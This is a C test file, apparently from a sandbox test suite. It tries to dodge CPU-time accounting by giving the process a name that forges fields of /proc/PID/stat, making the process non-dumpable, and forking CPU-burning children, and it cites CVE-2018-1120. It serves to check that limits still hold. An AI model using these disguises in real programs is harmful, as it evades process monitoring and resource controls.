// attack: names and arguments that forge the lines of /proc, to be counted as somebody idle
// tries: a name with brackets, spaces and numbers in it (PR_SET_NAME), forged arguments and memory map (PR_SET_MM), not dumpable, in
//   children that burn CPU time, so that a reader of /proc/PID/stat finds zeros where the time should be.
// source: CVE-2018-1120 and procps's parsing of stat (Qualys 2018); monitors that split at spaces
// expect: the time is counted, and the limit of CPU time ends the run
// stopped-by: cpu_accounting
// flags: --cpu-time 400ms --wall-time 5s
// ends: cpu_time
// control: own
// needs: gcc
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <time.h>
#include <unistd.h>

static void disguise(void) {
    prctl(PR_SET_NAME, ") S 1 1 0 0 0 ", 0, 0, 0);
    prctl(PR_SET_DUMPABLE, 0, 0, 0, 0);
    for (int option = 1; option < 15; option++) prctl(PR_SET_MM, option, 4096, 0, 0);
}

static void burn(double seconds) {
    struct timespec t;
    do clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &t); while (t.tv_sec + t.tv_nsec / 1e9 < seconds);
}

int main(void) {
    disguise();
    if (getenv("ATTACK_CONTROL") && *getenv("ATTACK_CONTROL") == '1') {
        prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
        burn(0.3);
        char text[1024] = "";
        int file = open("/proc/self/stat", O_RDONLY);
        if (read(file, text, sizeof text - 1) < 0) return 1;
        char *word = strtok(text, " ");
        for (int n = 1; word && n < 14; n++) word = strtok(NULL, " ");
        int ticks = word ? atoi(word) : -1;
        printf(ticks < 20 ? "broke: a reader that splits at spaces counts %d ticks\n" : "unclear: %d ticks\n", ticks);
        fflush(stdout);
        _exit(ticks < 20 ? 99 : 1);
    }
    for (int n = 0; n < 3; n++)
        if (fork() == 0) { disguise(); burn(1.2); _exit(0); }
    burn(1.2);
    printf("broke: burnt 1.2 s\n");
    fflush(stdout);
    _exit(99);
}
